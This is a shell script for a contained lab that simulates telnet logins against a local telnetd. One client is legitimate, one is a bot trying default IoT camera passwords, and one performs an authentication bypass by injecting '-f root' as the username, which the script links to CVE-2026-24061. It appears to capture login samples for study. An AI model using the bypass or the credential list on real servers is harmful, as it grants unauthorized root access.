#!/bin/bash
# Telnet: a visitor who mistypes the password once and then looks around, a bot that tries the passwords of cameras, and one
# that would be let in by the name it brings (CVE-2026-24061). saved.txt has what their terminals showed of logins.
. "$(dirname "$0")/../lab.sh"
need expect inetutils-telnet inetutils-telnetd login openssl socat
lab_start
cp /etc/passwd /etc/shadow "$LAB"
echo "visitor:x:12345:12345::/tmp:/bin/sh" >>"$LAB/passwd"
echo "visitor:$(openssl passwd -6 -salt lab garden)::0:99999:7:::" >>"$LAB/shadow"
# Accounts of the server alone: what it sees in place of the machine's own.
server_job unshare -m sh -c "mount --bind $LAB/passwd /etc/passwd; mount --bind $LAB/shadow /etc/shadow
  exec socat TCP-LISTEN:23,reuseaddr,fork EXEC:'/usr/sbin/telnetd',nofork"
wait_port 23
cat >"$LAB/visit" <<VISIT
set timeout 30
spawn inetutils-telnet $SERVER
expect "login: "; send "visitor\r"
expect "assword: "; send "gardne\r"
expect "login: "; send "visitor\r"
expect "assword: "; send "garden\r"
expect "\\$ "; send "uname\r"
expect "Linux"; send "exit\r"
expect eof
VISIT
cat >"$LAB/bot" <<BOT
set timeout 30
spawn inetutils-telnet $SERVER
foreach {user password} {root xc3511 root vizxv admin admin} {
  expect "login: "; send "\$user\r"
  expect "assword: "; send "\$password\r"
}
expect "ncorrect"
close
BOT
cat >"$LAB/bring" <<BRING
set timeout 30
spawn inetutils-telnet -l "-f root" $SERVER
expect -re "login: |assword: |# "
close
BRING
for script in visit bot bring; do TERM=xterm on_client expect "$LAB/$script" >"$LAB/$script.log"; done
lab_save
cat "$LAB"/{visit,bot,bring}.log | grep -aoE 'login: [a-z]+|Login incorrect|\$ uname' >"$HERE/saved.txt"
